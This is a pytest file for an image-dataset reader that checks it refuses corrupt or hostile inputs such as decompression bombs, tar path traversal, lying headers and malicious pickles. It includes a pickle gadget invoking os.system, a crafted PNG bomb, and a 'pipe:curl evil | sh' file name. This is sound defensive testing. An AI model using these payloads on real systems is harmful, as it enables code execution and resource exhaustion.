"""Table F: data sets that are damaged, mislabelled or meant to harm."""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zlib
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from torchvision import datasets
from watch import FUZZ, contents, no_hang, peak_below

from aniso.data import unlabelled_images
from aniso.data.readers import fetch, parquet, parquet_images, read, recognise, webdataset
from aniso.errors import AnisoError
from aniso.weights.files import RawFile


def encoded(number: int = 0, kind: str = "PNG") -> bytes:
    out = io.BytesIO()
    Image.fromarray(np.random.default_rng(number).integers(0, 256, (4, 4, 3), dtype=np.uint8)).save(out, kind)
    return out.getvalue()


PNG, JPEG = encoded(), encoded(0, "JPEG")


def put(path: Path, data: bytes | str = PNG) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


class Marks:
    """Unpickled, it would leave a mark."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self):
        return os.system, (f"touch '{self.mark}'",)


@pytest.fixture(autouse=True)
def unchanged(request, tmp_path):
    """Whatever a test reads, reading adds no file and takes none away."""
    yield
    assert not list(tmp_path.rglob("mark"))


# F1: pictures that are none


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (JPEG[: len(JPEG) // 2], "Truncated"),
        (b"", "an empty file"),
        (b"just a text", "just a t"),
    ],
    ids=["truncated", "empty", "text"],
)
def test_f1_bad_pictures_are_named(tmp_path, refused, data, said):
    path = put(tmp_path / "a/bad.jpg", data)
    images = read("folder", tmp_path, {}).parts["all"].items
    with refused("IMAGE-READ", 3, str(path), said, "--on-bad-image"):
        images.open(0)


def test_f1_content_decides_not_the_suffix(tmp_path):
    put(tmp_path / "a/really.jpg", PNG)
    put(tmp_path / "a/really.png", JPEG)
    images = read("folder", tmp_path, {}).parts["all"].items
    assert [images.open(i).size for i in range(2)] == [(4, 4), (4, 4)]


def test_f1_files_that_went_away(tmp_path, refused):
    path = put(tmp_path / "a/1.jpg")
    images = read("folder", tmp_path, {}).parts["all"].items
    path.unlink()
    with refused("IMAGE-READ", 3, str(path), "no such file"):
        images.open(0)
    os.mkfifo(path)
    with no_hang(), refused("IMAGE-READ", 3, "not a regular file"):
        images.open(0)


# F2 and F3 are in tests/unit/test_decode.py


# F4: bombs, in whatever they are wrapped


def bomb() -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 20_000, 20_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("kind", ["folder", "parquet", "webdataset"])
def test_f4_bombs(tmp_path, refused, kind):
    if kind == "folder":
        put(tmp_path / "a/1.png", bomb())
    elif kind == "parquet":
        table(tmp_path / "all.parquet", [bomb()], ["a"])
    else:
        archive(tmp_path / "all.tar", {"1.png": bomb(), "1.cls": b"a"})
    images = next(iter(read(kind, tmp_path, {}).parts.values())).items
    with peak_below(20), refused("IMAGE-BOMB", 4, images.describe(0)):
        images.open(0)


# F5: empty and hidden


def test_f5_empty_classes_are_listed(tmp_path, refused):
    put(tmp_path / "train/a/1.png")
    for name in ("train/b", "train/c/deeper", "val/a"):
        (tmp_path / name).mkdir(parents=True)
    put(tmp_path / "train/b/notes.txt", "")
    with refused("DATA-EMPTY", 3, "train: b", "train: c", "val: a"):
        read("folder", tmp_path, {})


def test_f5_empty_parts_are_listed(tmp_path, refused):
    put(tmp_path / "train/a/1.png")
    (tmp_path / "val").mkdir()
    with refused("DATA-EMPTY", 3, "val: no class folder"):
        read("folder", tmp_path, {})


def test_f5_nothing_at_all(tmp_path, refused):
    for kind in ("folder", "parquet", "webdataset"):
        with refused("DATA-EMPTY", 3, str(tmp_path)):
            read(kind, tmp_path, {})
    with refused("DATA-FORMAT", 3, "no .csv or .tsv file"):
        read("csv", tmp_path, {})


@pytest.mark.parametrize("kind", ["folder", "parquet", "webdataset", "csv", "lists", "voc", "cub", "coop"])
def test_f5_nothing_there(tmp_path, refused, kind):
    settings = {
        "lists": {"images": "i", "parts": {"train": "t.txt"}},
        "coop": {"images": "i", "file": "s.json"},
        "voc": {"parts": {"train": "train"}},
    }
    with pytest.raises(AnisoError) as caught:
        read(kind, tmp_path / "nowhere", settings.get(kind, {}))
    assert caught.value.exit_code == 3
    assert "nowhere" in str(caught.value)


def test_f5_empty_tables_and_archives(tmp_path, refused):
    table(tmp_path / "p/train.parquet", [PNG], ["a"])
    table(tmp_path / "p/val.parquet", [], pa.array([], pa.string()))
    with refused("DATA-EMPTY", 3, "for val", "train: 1"):
        read("parquet", tmp_path / "p", {})
    archive(tmp_path / "w/train.tar", {"1.png": PNG, "1.cls": b"a"})
    archive(tmp_path / "w/test.tar", {})
    with refused("DATA-EMPTY", 3, "for test"):
        read("webdataset", tmp_path / "w", {})
    put(tmp_path / "c/train.csv", "path,label\n")
    with refused("DATA-EMPTY", 3, "train.csv"):
        read("csv", tmp_path / "c", {})


def test_f5_hidden_files_are_ignored_and_said(tmp_path):
    put(tmp_path / "train/a/1.png")
    for name in (
        *(".ipynb_checkpoints/x/1.png", "__MACOSX/1.png", "train/.DS_Store", "train/.git/1.png"),
        *("train/a/Thumbs.db", "train/a/._1.png", "train/a/desktop.ini"),
    ):
        put(tmp_path / name)
    reading = read("folder", tmp_path, {})
    assert reading.parts["train"].items.ids == ("train/a/1.png",)
    assert len(reading.notes) == 1
    assert reading.notes[0].startswith("ignored hidden files: .ipynb_checkpoints, ")
    assert reading.notes[0].endswith("(7 in all)")


# F6: classes that do not match


def test_f6_a_class_may_be_missing_from_val(tmp_path):
    for i, name in enumerate(("train/a", "train/b", "train/c", "val/c", "val/a")):
        put(tmp_path / name / "1.png", encoded(i))
    parts = read("folder", tmp_path, {}).parts
    assert parts["val"].classes == parts["train"].classes == ("a", "b", "c")
    assert parts["val"].codes == (0, 2)


@pytest.mark.parametrize("part", ["val", "test"])
def test_f6_an_extra_class_is_an_error(tmp_path, refused, part):
    for name in ("train/a", "train/b", f"{part}/b", f"{part}/Zebra"):
        put(tmp_path / name / "1.png")
    with refused("DATA-CLASS", 3, part, "Zebra", "a, b"):
        read("folder", tmp_path, {})


def test_f6_an_extra_class_in_tables_and_archives(tmp_path, refused):
    table(tmp_path / "p/train.parquet", [PNG], ["a"])
    table(tmp_path / "p/test.parquet", [PNG], ["b"])
    archive(tmp_path / "w/train.tar", {"1.png": PNG, "1.cls": b"a"})
    archive(tmp_path / "w/val.tar", {"1.png": PNG, "1.cls": b"b"})
    put(tmp_path / "c/1.png")
    put(tmp_path / "c/train.csv", "path,label\n1.png,a\n")
    put(tmp_path / "c/val.csv", "path,label\n1.png,b\n")
    for kind, folder in (("parquet", "p"), ("webdataset", "w"), ("csv", "c")):
        with refused("DATA-CLASS", 3, "train lacks", "b"):
            read(kind, tmp_path / folder, {})


def test_f6_numeric_names_keep_their_meaning(tmp_path):
    """Ten before two on one side and after it on the other must not swap labels."""
    for part in ("train", "test"):
        for name in ("10", "2", "1"):
            put(tmp_path / part / name / f"of {name}.png")
    for part in read("folder", tmp_path, {}).parts.values():
        assert part.classes == ("1", "2", "10")
        names = [part.classes[code] for code in part.codes]
        assert [f"of {name}" for name in names] == [Path(id_).stem for id_ in part.items.ids]


def test_f6_lists_of_classes_that_cannot_be(tmp_path, refused):
    table(tmp_path / "train.parquet", [PNG], [0])
    for classes, said in ((["a", "a"], "twice"), (["a", " "], "empty"), ([], "no class")):
        put(tmp_path / "card.json", json.dumps({"classes": classes}))
        with refused("DATA-CLASS", 3, "card.json", said):
            read("parquet", tmp_path, {})
    for content in ('{"classes": "ab"}', '{"classes": [1]}', "[]", "{", '{"classes": ["a"], "prompts": 3}'):
        put(tmp_path / "card.json", content)
        with refused("DATA-FORMAT", 3, "card.json"):
            read("parquet", tmp_path, {})


def test_f6_tables_that_list_different_classes(tmp_path, refused):
    for part, names in (("train", ["a", "b"]), ("test", ["b", "a"])):
        features = {"info": {"features": {"label": {"names": names}}}}
        table(tmp_path / f"{part}.parquet", [PNG], [0], {"huggingface": json.dumps(features)})
    with refused("DATA-CLASS", 3, "different classes", "a, b", "b, a"):
        read("parquet", tmp_path, {})


@pytest.mark.parametrize("meta", ["{", "[]", "null", '{"info": 3}', "[" * 100_000])
def test_f6_a_strange_schema_names_no_classes(tmp_path, meta):
    table(tmp_path / "train.parquet", [PNG], [3], {"huggingface": meta})
    assert read("parquet", tmp_path, {}).parts["train"].classes == ("3",)


# F10: labels


def table(path: Path, pictures, labels, metadata=None, **more) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    kind = pa.struct([("bytes", pa.binary()), ("path", pa.string())])
    cells = [{"bytes": data, "path": None} for data in pictures]
    labels = labels if isinstance(labels, pa.Array) else pa.array(labels)
    made = pa.table({"image": pa.array(cells, kind), "label": labels, **more})
    pq.write_table(made.replace_schema_metadata(metadata) if metadata else made, path)
    return path


@pytest.mark.parametrize(
    ("labels", "said"),
    [
        (pa.array([0, 1, 2]), "row 2: 2"),
        (pa.array([0, -1, 0]), "row 1: -1"),
        (pa.array([0, None, 1]), "row 1: None"),
        (pa.array([0.0, 1.0, 1.0]), "row 0: 0.0"),
        (pa.array([0, float("nan"), 1.0]), "row 0: 0.0"),
        (pa.array([[0], [0, 1], [1]]), "row 0: [0]"),
        (pa.array([2**63, 0, 0], pa.uint64()), f"row 0: {2**63}"),
        (pa.array(["0", "1", "2"]), "row 2: 2"),
        (pa.array(["0", "-1", "1"]), "row 1: -1"),
        (pa.array(["0", "1.0", "1"]), "row 1: 1.0"),
        (pa.array(["a", "", "b"]), "row 1: nothing"),
        (pa.array(["a", "NaN", "b"]), "row 1: NaN"),
        (pa.array(["a", None, "b"]), "row 1: None"),
        (pa.array(["0", "9" * 5000, "1"]), "row 1: 999"),
        (pa.nulls(3), "row 0: None"),
    ],
    ids=str,
)
def test_f10_labels_in_parquet(tmp_path, refused, labels, said):
    table(tmp_path / "train.parquet", [PNG] * 3, labels)
    put(tmp_path / "card.json", '{"classes": ["a", "b"]}')
    with refused("DATA-LABEL", 3, "train.parquet", said):
        read("parquet", tmp_path, {})


def test_f10_names_that_are_not_in_the_list(tmp_path, refused):
    table(tmp_path / "train.parquet", [PNG] * 2, ["a", "zebra"])
    put(tmp_path / "card.json", '{"classes": ["a", "b"]}')
    with refused("DATA-CLASS", 3, "zebra"):
        read("parquet", tmp_path, {})


def test_f10_numbers_in_one_file_and_names_in_another(tmp_path, refused):
    table(tmp_path / "train.parquet", [PNG], [0])
    table(tmp_path / "test.parquet", [PNG], ["a"])
    with refused("DATA-FORMAT", 3, "numbers in some files"):
        read("parquet", tmp_path, {})


@pytest.mark.parametrize(
    ("labels", "said"),
    [
        (["1", "2", ""], "line 4: nothing"),
        (["1", "2", "nan"], "line 4: nan"),
        (["1", "-1", "2"], "line 3: -1"),
        (["1", "2.0", "3"], "line 3: 2.0"),
        (["cat", "", "dog"], "line 3: nothing"),
        (["1", "1e3", "inf"], "line 3: 1e3"),
    ],
)
def test_f10_labels_in_csv(tmp_path, refused, labels, said):
    for i in range(3):
        put(tmp_path / f"{i}.png")
    put(tmp_path / "t.csv", "path,label\n" + "".join(f"{i}.png,{label}\n" for i, label in enumerate(labels)))
    with refused("DATA-LABEL", 3, "t.csv", said):
        read("csv", tmp_path, {})


def test_f10_one_picture_with_two_labels(tmp_path, refused):
    put(tmp_path / "1.png")
    put(tmp_path / "t.csv", "path,label\n1.png,a\n./1.png,b\n")
    with refused("DATA-LABEL", 3, "1.png", "a (", "line 2)", "b (", "line 3)"):
        read("csv", tmp_path, {})
    put(tmp_path / "l.txt", "1.png a\n1.png b\n")
    with refused("DATA-LABEL", 3, "l.txt line 1", "l.txt line 2"):
        read("lists", tmp_path, {"images": ".", "parts": {"train": "l.txt"}})


@pytest.mark.parametrize("label", [b"2", b"-1", b"", b"1.5", b"\xff", b"nan"])
def test_f10_labels_in_archives(tmp_path, refused, label):
    archive(tmp_path / "train.tar", {"1.png": PNG, "1.cls": label, "2.png": PNG, "2.cls": b"1"})
    put(tmp_path / "classes.txt", "a\nb\n")
    with pytest.raises(AnisoError) as caught:
        read("webdataset", tmp_path, {})
    assert caught.value.code in ("DATA-LABEL", "DATA-CLASS")
    assert caught.value.exit_code == 3


@pytest.mark.parametrize("label", ["1.5", "null", "[1, 2]", "true", '{"a": 1}'])
def test_f10_labels_in_json(tmp_path, refused, label):
    archive(tmp_path / "train.tar", {"1.png": PNG, "1.json": f'{{"label": {label}}}'.encode()})
    with refused("DATA-LABEL", 3, "train.tar", "1.json"):
        read("webdataset", tmp_path, {})


# F12: archives


def archive(path: Path, files: dict[str, bytes], *infos: tarfile.TarInfo, **options) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w", **options) as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for info in infos:
            tar.addfile(info)
    return path


def info(name: str, kind: bytes = tarfile.REGTYPE, **attributes: object) -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type = kind
    for key, value in attributes.items():
        setattr(made, key, value)
    return made


GOOD = {"1.png": PNG, "1.cls": b"a"}


@pytest.mark.parametrize(
    ("member", "said"),
    [
        (info("../up.png"), "../up.png"),
        (info("a/../../up.png"), "up.png"),
        (info("/etc/passwd.png"), "/etc/passwd.png"),
        (info("..\\up.png"), "up.png"),
        (info("C:\\x.png"), "x.png"),
        (info("../folder", tarfile.DIRTYPE), "../folder"),
        (info("l.png", tarfile.SYMTYPE, linkname="/etc/passwd"), "a symbolic link"),
        (info("l.png", tarfile.LNKTYPE, linkname="1.png"), "a hard link"),
        (info("l.png", tarfile.CHRTYPE, devmajor=1, devminor=5), "a device"),
        (info("l.png", tarfile.BLKTYPE), "a device"),
        (info("l.png", tarfile.FIFOTYPE), "a pipe"),
        (info("l.png", tarfile.GNUTYPE_SPARSE), "a sparse file"),
        (info("l.png", b"Z"), "unknown kind"),
        (info("l.png", pax_headers={"GNU.sparse.major": "1", "GNU.sparse.minor": "0"}), "a sparse file"),
        (info("l.png", pax_headers={"path": "../up.png"}), "../up.png"),
        (info("l.png", pax_headers={"size": "-512"}), "a size of"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_f12_members_that_are_no_files(tmp_path, refused, member, said):
    archive(tmp_path / "train.tar", GOOD, member, format=tarfile.PAX_FORMAT)
    with no_hang(), refused("DATA-TAR", 4, "train.tar", said):
        read("webdataset", tmp_path, {})
    assert [path.name for path in tmp_path.iterdir()] == ["train.tar"]


def append(path: Path, *blocks: bytes) -> Path:
    """Adds raw blocks behind the members there are."""
    with tarfile.open(path) as tar:
        tar.getmembers()
        end = tar.offset
    path.write_bytes(path.read_bytes()[:end] + b"".join(blocks) + b"\0" * 1024)
    return path


def header(name: str, size: int, kind: bytes = tarfile.REGTYPE) -> bytes:
    return info(name, kind, size=size).tobuf(tarfile.GNU_FORMAT)


@pytest.mark.parametrize(
    ("blocks", "code", "exit_code"),
    [
        ([header("n.png", -512)], "DATA-TAR", 4),
        ([header("n.png", -1024)], "DATA-TAR", 4),
        ([header("long", -512, tarfile.GNUTYPE_LONGNAME)], "DATA-TAR", 4),
        ([header("long", 1 << 40, tarfile.GNUTYPE_LONGNAME)], "DATA-TAR", 4),
        ([header("pax", 1 << 40, tarfile.XHDTYPE)], "DATA-TAR", 4),
        ([header("big.png", 1 << 40)], "DATA-FORMAT", 3),
        ([header("cut.png", 5000)], "DATA-FORMAT", 3),
        ([b"x" * 512], "DATA-FORMAT", 3),
        ([header("pax", 512, tarfile.XHDTYPE), b"5" * 512], "DATA-FORMAT", 3),
        ([header("pax", 512, tarfile.XHDTYPE), b"999999 path=x\n".ljust(512, b"\0")], "DATA-FORMAT", 3),
        ([header("g", 11, tarfile.XGLTYPE), b"11 path=xx\n".ljust(512, b"\0")], "DATA-TAR", 4),
    ],
)
def test_f12_headers_that_lie(tmp_path, refused, blocks, code, exit_code):
    path = append(archive(tmp_path / "train.tar", GOOD), *blocks)
    with no_hang(), peak_below(20), refused(code, exit_code, str(path)):
        read("webdataset", tmp_path, {})


def test_f12_extensions_without_end(tmp_path):
    """tarfile follows them by recursion; a walk does not mind."""
    long_name = header("././@LongLink", 6, tarfile.GNUTYPE_LONGNAME) + b"2.png\0".ljust(512, b"\0")
    append(archive(tmp_path / "all.tar", GOOD), *[long_name] * 5000)
    with no_hang():
        assert read("webdataset", tmp_path, {}).parts["all"].items.ids == ("all.tar/1.png",)


def test_f12_an_archive_behind_the_archive(tmp_path, refused):
    path = archive(tmp_path / "train.tar", GOOD)
    path.write_bytes(path.read_bytes() * 2)
    with refused("DATA-TAR", 4, "has data after its end"):
        read("webdataset", tmp_path, {})
    path.write_bytes(path.read_bytes()[: len(path.read_bytes()) // 2])
    with path.open("r+b") as f:
        f.truncate(1 << 40)
    with no_hang(), peak_below(20), refused("DATA-TAR", 4, "has data after its end"):
        read("webdataset", tmp_path, {})


def test_f12_pictures_that_are_too_large(tmp_path, refused, monkeypatch):
    monkeypatch.setattr(webdataset, "_LARGEST_IMAGE", len(PNG) - 1)
    archive(tmp_path / "train.tar", GOOD)
    with refused("DATA-TAR", 4, "1.png", "too large"):
        read("webdataset", tmp_path, {})
    monkeypatch.undo()
    archive(tmp_path / "train.tar", {"1.png": PNG, "1.cls": b"x" * (2 << 20)})
    with refused("DATA-TAR", 4, "1.cls"):
        read("webdataset", tmp_path, {})


def test_f12_more_members_than_there_may_be(tmp_path, refused, monkeypatch):
    monkeypatch.setattr(webdataset, "_MOST_MEMBERS", 5)
    archive(tmp_path / "train-0.tar", GOOD | {"2.png": PNG, "2.cls": b"a"})
    archive(tmp_path / "train-1.tar", GOOD)
    with refused("DATA-TAR", 4, "more than 5 members"):
        read("webdataset", tmp_path, {})


def test_f12_many_members_in_little_memory(tmp_path):
    names = [f"{i:05d}" for i in range(1500)]
    one = {f"{name}.{kind}": b"0" for name in names for kind in ("png", "cls")}
    archive(tmp_path / "all.tar", one)
    with no_hang(20), peak_below(8):
        assert len(read("webdataset", tmp_path, {}).parts["all"].codes) == 1500


def test_f12_programs_are_never_read(tmp_path, monkeypatch):
    program = pickle.dumps(Marks(tmp_path / "mark"))
    endings = ("pkl", "pickle", "pyd", "pth", "npy", "meta.pkl")
    archive(tmp_path / "all.tar", {**{f"1.{ending}": program for ending in endings}, **GOOD})
    data = (tmp_path / "all.tar").read_bytes()
    secret = {i for i in range(len(data)) if data[i : i + len(program)] == program}
    assert len(secret) == len(endings)
    whole = RawFile.read

    def watched(self, offset, size):
        assert not any(start in range(offset, offset + size) for start in secret)
        return whole(self, offset, size)

    monkeypatch.setattr(RawFile, "read", watched)
    reading = read("webdataset", tmp_path, {})
    assert reading.parts["all"].items.content(0) == PNG
    assert reading.notes[0].startswith("ignored unread, because they could run code: all.tar/1.pkl, ")


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({"1.png": PNG, "1.cls": b"a", "2.jpg": JPEG}, "2.jpg"),
        ({"1.png": PNG, "1.cls": b"a", "d/1.cls": b"b"}, "d/1.cls"),
        ({"1.png": PNG, "1.pkl": b"a"}, "1.png"),
    ],
)
def test_f12_pictures_and_labels_come_in_pairs(tmp_path, refused, files, said):
    archive(tmp_path / "train.tar", files)
    with refused("DATA-MISSING", 3, "train.tar", said):
        read("webdataset", tmp_path, {})


def test_f12_two_of_a_name(tmp_path, refused):
    archive(tmp_path / "train.tar", {"1.png": PNG, "1.jpg": JPEG, "1.cls": b"a"})
    with refused("DATA-FORMAT", 3, "more than one image"):
        read("webdataset", tmp_path, {})
    archive(tmp_path / "train.tar", GOOD, info("1.cls"))
    with refused("DATA-FORMAT", 3, "1.cls"):
        read("webdataset", tmp_path, {})


@pytest.mark.parametrize(
    ("mode", "name", "tool"),
    [
        ("gz", "a.tar.gz", "gunzip"),
        ("gz", "a.tar", "gunzip"),
        ("bz2", "a.tar", "bunzip2"),
        ("xz", "a.tgz", "unxz"),
    ],
)
def test_f12_compressed_archives(tmp_path, refused, mode, name, tool):
    with tarfile.open(tmp_path / name, f"w:{mode}") as tar:
        tar.addfile(info("1.png"))
    assert recognise(tmp_path) == "webdataset"
    with refused("DATA-TAR", 4, name, f"{tool} '"):
        read("webdataset", tmp_path, {})


@pytest.mark.parametrize("data", [b"", b"x", b"x" * 5000, PNG])
def test_f12_what_is_no_archive(tmp_path, refused, data):
    put(tmp_path / "train.tar", data)
    with refused("DATA-FORMAT", 3, "train.tar", "download it again"):
        read("webdataset", tmp_path, {})


def test_f12_an_archive_that_changes(tmp_path, refused):
    path = archive(tmp_path / "all.tar", GOOD)
    images = read("webdataset", tmp_path, {}).parts["all"].items
    path.write_bytes(path.read_bytes()[:600])
    with refused("FILE-CHANGED", 3, "all.tar"):
        images.open(0)


@FUZZ
@given(
    st.lists(st.tuples(st.integers(0, 4000), st.integers(0, 255)), max_size=5),
    st.integers(0, 12_000),
)
def test_f12_altered_archives_give_only_our_errors(tmp_path_factory, changes, length):
    path = tmp_path_factory.getbasetemp() / "fuzz.tar"
    archive(path, {"x" * 120 + ".png": PNG, "x" * 120 + ".cls": b"a", **GOOD}, format=tarfile.PAX_FORMAT)
    data = bytearray(path.read_bytes())
    for place, value in changes:
        data[place] = value
    path.write_bytes(data[:length])
    try:
        with no_hang():
            read("webdataset", path, {})
    except AnisoError as e:
        assert e.exit_code in (3, 4)


# F13: names that other readers would run or expand


@pytest.mark.parametrize(
    "name",
    [
        "pipe:curl evil | sh",
        "file:/etc/passwd",
        "t-{0..999999999}.tar",
        "{a,b}.tar",
        "https://x/a.tar",
        "s3://b/a.tar",
    ],
)
def test_f13_names_that_are_no_files(refused, name):
    assert recognise(Path(name)) == "webdataset"
    with no_hang(), refused("DATA-TAR", 4, "is not a file"):
        read("webdataset", Path(name), {})


@pytest.mark.parametrize("name", ["train-{0..9}.tar", "pipe:cat x.tar", "train-{1,2}.tar"])
def test_f13_archives_with_such_names(tmp_path, refused, name):
    archive(tmp_path / name, GOOD)
    with refused("DATA-TAR", 4, name, "rename it"):
        read("webdataset", tmp_path, {})


# F14: parquet


def test_f14_corrupt_footers(tmp_path, refused):
    path = table(tmp_path / "train.parquet", [PNG] * 5, ["a"] * 5)
    data = path.read_bytes()
    for broken in (b"", b"PAR1", data[:-1], data[: len(data) // 2], data[:-30] + b"\xff" * 22 + data[-8:]):
        path.write_bytes(broken)
        with refused("DATA-FORMAT", 3, "train.parquet", "download it again"):
            read("parquet", tmp_path, {})


def test_f14_damaged_pages_are_found_when_read(tmp_path, refused):
    path = table(tmp_path / "all.parquet", [os.urandom(3000) for _ in range(9)], ["a"] * 9)
    images = read("parquet", path, {}).parts["all"].items
    data = bytearray(path.read_bytes())
    data[4:40] = b"\xff" * 36
    path.write_bytes(data)
    with refused("DATA-FORMAT", 3, "all.parquet"):
        images.content(0)


def test_f14_columns_are_named(tmp_path, refused):
    pq.write_table(pa.table({"img": [PNG], "label": [0], "other": [1.5]}), tmp_path / "train.parquet")
    with refused("DATA-FORMAT", 3, "no column image", "img (binary)", "other (double)", "[reader]"):
        read("parquet", tmp_path, {})
    with refused("DATA-FORMAT", 3, "no column fine"):
        read("parquet", tmp_path, {"image": "img", "label": "fine"})
    with refused("DATA-FORMAT", 3, "no column id"):
        read("parquet", tmp_path, {"image": "img", "key": "id"})


@pytest.mark.parametrize(
    ("column", "said"),
    [
        (pa.array(["/etc/passwd"]), "never opened"),
        (pa.array(["../x.png"], pa.large_string()), "never opened"),
        (pa.array([{"bytes": None, "path": "/etc/passwd"}]), "cannot be used"),
        (
            pa.array(
                [{"bytes": None, "path": "/etc/x"}],
                pa.struct([("bytes", pa.binary()), ("path", pa.string())]),
            ),
            "never opened",
        ),
        (pa.array([{"path": "x.png"}]), "struct"),
        (pa.array([[1, 2, 3]]), "list"),
        (pa.array([3]), "int64"),
        (pa.nulls(1), "null"),
    ],
    ids=lambda value: str(value.type) if isinstance(value, pa.Array) else "",
)
def test_f14_columns_without_pictures(tmp_path, refused, column, said):
    pq.write_table(pa.table({"image": column, "label": [0]}), tmp_path / "train.parquet")
    with refused("DATA-FORMAT", 3, "train.parquet", said):
        read("parquet", tmp_path, {})


def test_f14_empty_cells(tmp_path, refused):
    table(tmp_path / "train.parquet", [PNG, None, PNG], ["a"] * 3)
    images = read("parquet", tmp_path, {}).parts["train"].items
    assert images.content(2) == PNG
    with refused("DATA-FORMAT", 3, "train.parquet row 1", "holds nothing"):
        images.content(1)


def test_f14_null_structs_are_empty_cells(tmp_path, refused):
    kind = pa.struct([("bytes", pa.binary()), ("path", pa.string())])
    made = pa.table({"image": pa.array([None, {"bytes": PNG, "path": ""}], kind), "label": [0, 0]})
    pq.write_table(made, tmp_path / "train.parquet")
    images = read("parquet", tmp_path, {}).parts["train"].items
    assert images.content(1) == PNG
    with refused("DATA-FORMAT", 3, "row 0"):
        images.content(0)


def test_f14_cells_and_row_groups_that_are_too_large(tmp_path, refused, monkeypatch):
    table(tmp_path / "train.parquet", [PNG], ["a"])
    images = read("parquet", tmp_path, {}).parts["train"].items
    monkeypatch.setattr(parquet_images, "_LARGEST_CELL", len(PNG) - 1)
    with refused("DATA-FORMAT", 3, "train.parquet row 0", f"{len(PNG)} bytes"):
        images.content(0)
    monkeypatch.setattr(parquet, "_LARGEST_GROUP", 10)
    with refused("DATA-FORMAT", 3, "row group 0", "row_group_size=100"):
        read("parquet", tmp_path, {})


def test_f14_keys(tmp_path, refused):
    table(tmp_path / "train.parquet", [PNG] * 3, ["a"] * 3, key=pa.array(["x", "y", "x"]))
    with refused("DATA-FORMAT", 3, "are not unique", "x"):
        read("parquet", tmp_path, {})
    table(tmp_path / "train.parquet", [PNG] * 2, ["a"] * 2, key=pa.array(["x", None]))
    with refused("DATA-FORMAT", 3, "row 1: None"):
        read("parquet", tmp_path, {})


def test_f14_extension_types_run_nothing(tmp_path):
    """pyarrow before 14.0.1 unpickled this on reading."""
    program = pickle.dumps(Marks(tmp_path / "mark"))
    meta = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": program}
    field = pa.field("label", pa.int64(), metadata=meta)
    image = pa.field("image", pa.binary())
    made = pa.Table.from_arrays([pa.array([PNG]), pa.array([0])], schema=pa.schema([image, field]))
    pq.write_table(made, tmp_path / "train.parquet")
    try:
        read("parquet", tmp_path, {})
    except AnisoError as e:
        assert e.exit_code == 3
    assert not (tmp_path / "mark").exists()


def test_f14_a_table_that_changes(tmp_path, refused):
    path = table(tmp_path / "all.parquet", [PNG] * 2, ["a"] * 2)
    images = read("parquet", path, {}).parts["all"].items
    table(path, [PNG], ["a"])
    with refused("FILE-CHANGED", 3, "all.parquet"):
        images.content(1)


@FUZZ
@given(st.lists(st.tuples(st.integers(0, 700), st.integers(0, 255)), min_size=1, max_size=4))
def test_f14_altered_footers_give_only_our_errors(tmp_path_factory, changes):
    path = tmp_path_factory.getbasetemp() / "fuzz.parquet"
    table(path, [PNG, JPEG], ["a", "b"])
    data = bytearray(path.read_bytes())
    for place, value in changes:
        data[-1 - place] = value
    path.write_bytes(data)
    try:
        images = read("parquet", path, {}).parts["all"].items
        for i in range(len(images)):
            images.content(i)
    except AnisoError as e:
        assert e.exit_code in (3, 4)


# F15: CIFAR's pickles


def cifar(root, monkeypatch, payload=None):
    kind = datasets.CIFAR10
    base = root / kind.base_folder
    for place in ("train_list", "test_list"):
        known = []
        for name, _ in getattr(kind, place):
            put(base / name, pickle.dumps({"data": np.zeros((1, 3072), np.uint8), "labels": [0]}, protocol=2))
            known.append([name, hashlib.md5((base / name).read_bytes()).hexdigest()])
        monkeypatch.setattr(kind, place, known)
    put(base / "batches.meta", pickle.dumps({"label_names": ["plane", "car"]}))
    digest = hashlib.md5((base / "batches.meta").read_bytes()).hexdigest()
    monkeypatch.setattr(kind, "meta", {**kind.meta, "md5": digest})
    return {"dataset": "CIFAR10", "parts": {"train": {"train": True}, "test": {"train": False}}}


@pytest.mark.parametrize("name", ["data_batch_1", "data_batch_5", "test_batch", "batches.meta"])
def test_f15_altered_batches_are_refused_unread(tmp_path, refused, monkeypatch, name):
    settings = cifar(tmp_path, monkeypatch)
    assert len(read("torchvision", tmp_path, settings).parts["train"].codes) == 5
    put(tmp_path / "cifar-10-batches-py" / name, pickle.dumps(Marks(tmp_path / "mark")))
    monkeypatch.setattr(pickle, "load", lambda *_, **__: pytest.fail("something was unpickled"))
    with refused("DATA-HASH", 4, name, "a pickle can run anything"):
        read("torchvision", tmp_path, settings)
    assert not (tmp_path / "mark").exists()


def test_f15_missing_batches_are_missing(tmp_path, refused, monkeypatch):
    settings = cifar(tmp_path, monkeypatch)
    (tmp_path / "cifar-10-batches-py/data_batch_3").unlink()
    with refused("DATA-MISSING", 3, "data_batch_3", "complete the dataset"):
        read("torchvision", tmp_path, settings)


def test_f15_the_published_hashes_are_asked_for(tmp_path, refused):
    for name, _ in [*datasets.CIFAR100.train_list, *datasets.CIFAR100.test_list, ("meta", "")]:
        put(tmp_path / "cifar-100-python" / name, pickle.dumps(Marks(tmp_path / "mark")))
    with refused("DATA-HASH", 4, "train", "test", "meta"):
        read("torchvision", tmp_path, {"dataset": "CIFAR100", "parts": {"test": {"train": False}}})


@pytest.mark.parametrize("name", ["MNIST", "FashionMNIST"])
def test_f15_mnist_as_old_versions_left_it(tmp_path, refused, name):
    for file in ("training.pt", "test.pt"):
